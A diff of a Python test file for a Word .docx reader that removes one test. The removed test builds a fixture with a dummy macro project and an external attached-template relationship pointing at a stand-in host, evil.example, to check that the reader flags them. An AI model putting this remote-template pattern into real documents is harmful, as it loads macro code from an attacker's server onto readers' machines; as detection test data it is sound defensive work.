@@ -70,15 +70,6 @@ def test_a_content_control_is_looked_through(tmp_path):
     assert read_docx(written(tmp_path / "a", body), WANTS).fields["title"].value == "嫦娥"
 
 
-def test_macros_and_a_template_from_elsewhere_are_named(tmp_path):
-    rels = '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
-    path = written(tmp_path / "a", "<w:p/>")
-    with zipfile.ZipFile(path, "a") as archive:
-        archive.writestr("word/vbaProject.bin", b"x")
-        archive.writestr("word/_rels/settings.xml.rels", rels)
-    assert read_docx(path, WANTS).active == ("word/vbaProject.bin", "template http://evil.example/a.dotm")
-
-
 def test_pictures_are_counted(tmp_path):
     path = written(tmp_path / "a", "<w:p/>")
     with zipfile.ZipFile(path, "a") as archive:
